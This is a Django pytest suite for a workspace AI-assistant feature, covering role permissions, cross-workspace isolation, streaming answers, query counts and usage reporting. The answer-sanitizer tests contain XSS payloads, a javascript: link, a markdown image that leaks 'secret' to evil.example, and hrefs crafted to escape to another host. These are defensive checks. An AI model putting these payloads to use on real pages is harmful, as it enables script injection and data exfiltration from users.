import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from assistants.models import Assistant, Conversation, Message
from assistants.rendering import render_answer
from assistants.tests.conftest import read_events

QUESTION = "How many vacation days do I get?"


def test_api_crud_by_role(api_client_for, member, viewer, workspace, handbook):
    response = api_client_for(viewer).post("/api/assistants/", {"workspace": "acme", "name": "X"}, format="json")
    assert response.status_code == 403
    client = api_client_for(member)
    response = client.post(
        "/api/assistants/",
        {"workspace": "acme", "name": "Policies", "all_documents": False, "documents": [handbook.pk]},
        format="json",
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["documents"] == [handbook.pk] and body["version"] == 1
    response = client.patch(f"/api/assistants/{body['id']}/", {"instructions": "Be brief."}, format="json")
    assert response.json()["version"] == 2
    assert api_client_for(viewer).get(f"/api/assistants/{body['id']}/").status_code == 200
    assert api_client_for(viewer).delete(f"/api/assistants/{body['id']}/").status_code == 403


def test_api_refuses_documents_of_another_workspace_with_404(
    api_client_for, member, outsider, other_workspace, workspace, add_document
):
    secret = add_document(other_workspace, "secret.md", "# Secret\n\nGlobex plans.\n", outsider)
    response = api_client_for(member).post(
        "/api/assistants/",
        {"workspace": "acme", "name": "Spy", "all_documents": False, "documents": [secret.pk]},
        format="json",
    )
    assert response.status_code == 404
    missing = api_client_for(member).post(
        "/api/assistants/",
        {"workspace": "acme", "name": "Spy", "all_documents": False, "documents": [secret.pk + 1000]},
        format="json",
    )
    # A document that does not exist and one of another workspace look the same.
    assert (missing.status_code, missing.json()) == (404, response.json())
    assert not Assistant.objects.filter(name="Spy").exists()


@pytest.mark.parametrize("invalid", [{"name": ""}, {"temperature": 5}])
def test_another_workspaces_document_ids_cannot_be_probed_with_an_invalid_field(
    api_client_for, member, outsider, other_workspace, assistant, add_document, invalid
):
    """With another field invalid too, an id of another workspace's document answers as a missing one does."""
    secret = add_document(other_workspace, "secret.md", "# Secret\n\nGlobex plans.\n", outsider)
    client = api_client_for(member)

    def answers(documents):
        created = client.post(
            "/api/assistants/", {"workspace": "acme", "name": "Spy", "documents": documents, **invalid}, format="json"
        )
        patched = client.patch(f"/api/assistants/{assistant.pk}/", {"documents": documents, **invalid}, format="json")
        return [(r.status_code, r.json()) for r in (created, patched)]

    assert answers([secret.pk]) == answers([secret.pk + 1000])
    assert answers([secret.pk])[0][0] == 404


@pytest.mark.parametrize("bad", [{"temperature": 5}, {"name": ""}, {"all_documents": "true"}, {"model": "nope"}])
def test_api_field_errors(api_client_for, member, workspace, bad):
    response = api_client_for(member).post("/api/assistants/", {"workspace": "acme", "name": "A", **bad}, format="json")
    assert response.status_code == 400
    assert set(response.json()) & {"temperature", "name", "all_documents", "model"}


def test_api_ask_json_and_stream(api_client_for, member, assistant):
    client = api_client_for(member)
    conversation = client.post("/api/conversations/", {"assistant": assistant.pk}, format="json").json()
    response = client.post(f"/api/conversations/{conversation['id']}/messages/", {"content": QUESTION}, format="json")
    assert response.status_code == 201
    answer = response.json()
    assert "27 vacation days" in answer["content"]
    assert answer["citations"][0]["title"] == "Employee handbook"
    response = client.post(
        f"/api/conversations/{conversation['id']}/messages/", {"content": QUESTION, "stream": True}, format="json"
    )
    events = read_events(response)
    assert events[0][0] == "meta" and events[0][1]["cache_hit"] is True
    assert events[-1][0] == "done" and "27 vacation days" in events[-1][1]["message"]["content"]
    response = client.post(
        f"/api/conversations/{conversation['id']}/messages/",
        {"content": QUESTION},
        format="json",
        HTTP_ACCEPT="text/event-stream",
    )
    assert read_events(response)[-1][0] == "done"
    response = client.post(
        f"/api/conversations/{conversation['id']}/messages/",
        {"content": ""},
        format="json",
        HTTP_ACCEPT="text/event-stream",
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json" and "content" in response.json()
    listed = client.get(f"/api/conversations/{conversation['id']}/messages/").json()
    assert listed["count"] == 6
    fb = client.post(f"/api/messages/{answer['id']}/feedback/", {"feedback": "up", "comment": "great"}, format="json")
    assert fb.json()["feedback"] == "up"
    bad = client.post(f"/api/conversations/{conversation['id']}/messages/", {"content": ""}, format="json")
    assert bad.status_code == 400 and "content" in bad.json()
    bad = client.post(f"/api/conversations/{conversation['id']}/messages/", {"content": 5}, format="json")
    assert bad.status_code == 400 and "content" in bad.json()


def test_conversations_are_private(api_client_for, client_for, member, admin_user, assistant, ask_page):
    events = ask_page(client_for(member), assistant, QUESTION)
    cid = events[0][1]["id"]
    assert client_for(admin_user).get(f"/assistants/acme/{assistant.pk}/c/{cid}/").status_code == 404
    assert api_client_for(admin_user).get(f"/api/conversations/{cid}/").status_code == 404
    usage = client_for(admin_user).get("/assistants/acme/usage/")
    assert usage.status_code == 200
    assert b"Helpdesk" in usage.content
    assert b"vacation" not in usage.content


def test_chat_page_queries_do_not_grow_with_the_conversation(client_for, member, assistant, ask_page):
    client = client_for(member)
    events = ask_page(client, assistant, QUESTION)
    cid = events[0][1]["id"]
    url = f"/assistants/acme/{assistant.pk}/c/{cid}/"

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    few = count()
    conversation = Conversation.objects.get(pk=cid)
    answer = Message.objects.filter(conversation=conversation, role="assistant").first()
    for _ in range(25):
        Message.objects.create(conversation=conversation, role="user", content="again")
        Message.objects.create(conversation=conversation, role="assistant", content="yes", citations=answer.citations)
        Conversation.objects.create(assistant=assistant, user=member, title="other")
    assert count() == few


def test_chat_turn_queries_do_not_grow_with_the_conversation(client_for, member, assistant, ask_page):
    client = client_for(member)
    cid = ask_page(client, assistant, QUESTION)[0][1]["id"]

    def turn_queries(question):
        with CaptureQueriesContext(connection) as ctx:
            ask_page(client, assistant, question, conversation=cid)
        return len(ctx.captured_queries)

    first = turn_queries("What about expenses for meals?")
    conversation = Conversation.objects.get(pk=cid)
    for i in range(30):
        Message.objects.create(conversation=conversation, role="user", content=f"q{i}")
        Message.objects.create(conversation=conversation, role="assistant", content=f"a{i}")
    assert turn_queries("And the VPN gateway?") == first


def test_answers_are_sanitized():
    html = str(
        render_answer(
            "Hi <script>alert(1)</script> <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) "
            "[ok](/documents/acme/) [bad](https://evil.example/steal) [js](javascript:alert(1)) **bold**"
        )
    )
    assert "<script" not in html and "onerror" not in html and "<img" not in html
    assert 'href="https://evil.example' not in html
    assert 'href="/documents/acme/"' in html
    assert "javascript:" not in html
    assert "<strong>bold</strong>" in html


@pytest.mark.parametrize(
    "href",
    ["/\\evil.example/steal?c=secret", "/%5Cevil.example/", "/%2F/evil.example/", "/\tevil.example", "//evil.example/"],
)
def test_links_that_browsers_read_as_another_host_are_dropped(href):
    html = str(render_answer(f"[click]({href})"))
    assert "href" not in html and "click" in html


def test_allowed_link_hosts(settings):
    settings.ANSWER_LINK_HOSTS = ["intranet.example"]
    html = str(render_answer("[wiki](https://intranet.example/page) [other](https://other.example/)"))
    assert 'href="https://intranet.example/page"' in html
    assert 'href="https://other.example/"' not in html


def test_pages_render(client_for, member, viewer, assistant):
    client = client_for(member)
    assert b"Helpdesk" in client.get("/assistants/", follow=True).content  # the only workspace: straight to it
    assert b"Helpdesk" in client.get("/assistants/acme/").content
    page = client.get(f"/assistants/acme/{assistant.pk}/")
    assert b"Ask Helpdesk" in page.content
    edit = client.get(f"/assistants/acme/{assistant.pk}/edit/")
    assert b"Try it" in edit.content
    assert client_for(viewer).get(f"/assistants/acme/{assistant.pk}/edit/").status_code == 403


def test_try_it_uses_unsaved_settings(client_for, member, assistant):
    response = client_for(member).post(
        f"/assistants/acme/{assistant.pk}/try/",
        {
            "name": "Helpdesk",
            "instructions": "Draft instructions",
            "model_name": "",
            "temperature": "0",
            "max_tokens": "300",
            "passages": "2",
            "all_documents": "on",
            "try_question": QUESTION,
        },
    )
    assert response.status_code == 200
    assert b"27 vacation days" in response.content
    assistant.refresh_from_db()
    assert assistant.instructions == "Answer briefly." and assistant.version == 1
    assert not Conversation.objects.exists()


def test_form_refuses_another_workspaces_document(
    client_for, member, outsider, other_workspace, assistant, add_document
):
    secret = add_document(other_workspace, "secret.md", "# Secret\n\nGlobex plans.\n", outsider)
    response = client_for(member).post(
        f"/assistants/acme/{assistant.pk}/edit/",
        {
            "name": "Helpdesk",
            "model_name": "",
            "temperature": "0",
            "max_tokens": "300",
            "passages": "2",
            "documents": [secret.pk],
        },
    )
    assert response.status_code == 400
    assert b"Select a valid choice" in response.content
    assert not assistant.documents.exists()


def test_commands(capsys, workspace, owner, handbook):
    call_command("create_assistant", "acme", "Policy bot", "--instructions", "Quote policies.")
    call_command("ask", "acme", "Policy bot", QUESTION)
    out = capsys.readouterr().out
    assert "27 vacation days" in out
    assert "Sources:" in out and "handbook" in out.lower()
    call_command("ask", "acme", "Policy bot", QUESTION)
    assert "cache hit" in capsys.readouterr().out
    with pytest.raises(CommandError, match="No assistant"):
        call_command("ask", "acme", "Nobody", QUESTION)
    with pytest.raises(CommandError, match="empty"):
        call_command("ask", "acme", "Policy bot", "  ")
    with pytest.raises(CommandError, match="Unknown model"):
        call_command("create_assistant", "acme", "Other", "--model", "nope")


def test_dashboard_panels_in_constant_queries(client_for, member, assistant, ask_page):
    from workspaces import services

    client = client_for(member)
    ask_page(client, assistant, QUESTION)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            response = client.get("/")
        assert b"Ask an assistant" in response.content and b"Your workspaces" in response.content
        return len(ctx.captured_queries)

    few = count()
    for i in range(10):
        ws = services.create_workspace(member, name=f"W{i}", slug=f"w-{i}")
        bot = Assistant.objects.create(workspace=ws, name=f"Bot {i}")
        Conversation.objects.create(assistant=bot, user=member, title=f"c{i}")
    assert count() == few


def test_thumbs_down_with_a_comment_on_the_page(client_for, member, assistant, ask_page):
    client = client_for(member)
    events = ask_page(client, assistant, QUESTION)
    answer_id = events[-1][1]["answer_id"]
    url = f"/assistants/acme/messages/{answer_id}/feedback/"
    response = client.post(url, {"feedback": "down"}, headers={"HX-Request": "true"})
    assert b"What was wrong?" in response.content
    client.post(url, {"feedback": "down", "comment": "Missing the part-time rule"}, headers={"HX-Request": "true"})
    message = Message.objects.get(pk=answer_id)
    assert (message.feedback, message.feedback_comment) == ("down", "Missing the part-time rule")
    assert client.post(url, {"feedback": "sideways"}).status_code == 400


def test_feedback_posted_without_script_returns_to_the_conversation(client_for, member, assistant, ask_page):
    client = client_for(member)
    events = ask_page(client, assistant, QUESTION)
    answer_id = events[-1][1]["answer_id"]
    message = Message.objects.select_related("conversation").get(pk=answer_id)
    page = client.get(message.conversation.get_absolute_url())
    form = f'method="post" action="/assistants/acme/messages/{answer_id}/feedback/"'
    assert form.encode() in page.content  # the buttons post without a script too
    response = client.post(f"/assistants/acme/messages/{answer_id}/feedback/", {"feedback": "up"})
    assert response.status_code == 302 and response["Location"] == message.conversation.get_absolute_url()
    assert Message.objects.get(pk=answer_id).feedback == "up"


def test_admin_edit_bumps_the_version_and_content_is_superuser_only(client_for, make_user, workspace, assistant):
    from workspaces.models import Membership

    root = make_user("root@example.com", is_staff=True, is_superuser=True)
    response = client_for(root).post(
        f"/admin/assistants/assistant/{assistant.pk}/change/",
        {
            "workspace": workspace.pk,
            "name": "Helpdesk",
            "description": "Policies",
            "instructions": "Changed in the admin.",
            "model_name": "",
            "temperature": "0",
            "max_tokens": "800",
            "all_documents": "on",
            "passages": "5",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    assistant.refresh_from_db()
    assert assistant.version == 2
    staff_admin = make_user("staff.admin@example.com", is_staff=True)
    Membership.objects.create(workspace=workspace, user=staff_admin, role="admin")
    assert client_for(staff_admin).get("/admin/assistants/message/").status_code == 403
    assert client_for(root).get("/admin/assistants/message/").status_code == 200


def _usage_row(client, name):
    """The figures of one assistant's row on the usage page, by column heading."""
    import re

    html = client.get("/assistants/acme/usage/").content.decode()
    heads = re.findall(r"<th>(.*?)</th>", html)
    for row in re.findall(r"<tr>\s*<td>(.*?)</tr>", html, re.S):
        cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", "<td>" + row, re.S)]
        if cells[0].startswith(name):
            return dict(zip(heads, cells, strict=False))
    raise AssertionError(f"no row for {name}")


def test_usage_page_counts_answers_from_the_usage_totals(
    client_for, api_client_for, member, admin_user, assistant, ask_page
):
    from llmgateway.metering import records

    client = client_for(member)
    first = ask_page(client, assistant, QUESTION)
    ask_page(client, assistant, QUESTION)  # the same question again: answered from the cache
    ask_page(client_for(admin_user), assistant, "Who approves expenses?")
    records.flush()
    records.drain()
    answer = Message.objects.filter(conversation_id=first[0][1]["id"], role="assistant").get()
    api_client_for(member).post(f"/api/messages/{answer.pk}/feedback/", {"feedback": "up"}, format="json")

    admin = client_for(admin_user)
    row = _usage_row(admin, assistant.name)
    assert row["Conversations"] == "3"
    assert row["People"] == "2"
    assert row["Answers"] == "3"
    assert row["From cache"] == "1"
    assert row["Helpful / not"] == "1 / 0"
    answers = Message.objects.filter(conversation__assistant=assistant, role="assistant")
    assert int(row["Tokens"]) == sum(m.prompt_tokens + m.completion_tokens for m in answers) > 0

    # The page's queries do not grow with the conversations and answers.
    with CaptureQueriesContext(connection) as few:
        admin.get("/assistants/acme/usage/")
    for _ in range(3):
        ask_page(client, assistant, "Where is the office?")
    records.flush()
    records.drain()
    with CaptureQueriesContext(connection) as more:
        admin.get("/assistants/acme/usage/")
    assert len(more.captured_queries) == len(few.captured_queries)
    assert _usage_row(admin, assistant.name)["Conversations"] == "6"
